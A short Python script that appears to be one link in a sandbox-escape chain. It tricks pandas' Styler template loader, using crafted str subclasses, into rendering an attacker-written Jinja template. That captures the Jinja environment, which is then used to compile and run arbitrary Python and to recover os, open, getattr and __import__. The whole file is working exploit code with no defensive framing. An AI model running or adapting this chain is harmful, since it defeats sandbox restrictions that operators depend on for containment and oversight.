# layer: kernel
# proves: a template of a library compiles any text
# oracle: drop
# then: reach
# needs: pandas, jinja2

import os as own, pandas as pd
open("t.tpl", "w").write("{{ take(self._TemplateReference__context.environment) }}")
class Piece(str):
    def __contains__(self, x): return False
    def __eq__(self, x): return False
    __hash__ = str.__hash__
class Name(str):
    def split(self, sep=None, maxsplit=-1): return [Piece(own.path.abspath("t.tpl"))]
got = []
def take(env):
    got.append(env)
    return ""
try: pd.DataFrame({"a": [1]}).style.template_html.render(html_style_tpl=Name("x"), html_table_tpl=Name("y"), take=take)
except BaseException as e: print(repr(e)[:200])
env = got[0]
env.take = take
text = """
import os, builtins
environment.take((os, builtins.open, builtins.getattr, builtins.__import__))
name = None; blocks = {}; debug_info = ''
def root(*a, **k): yield ''
"""
env.template_class.from_code(env, env._compile(text, "<text>"), {})
os, opener, get, imp = got[-1]
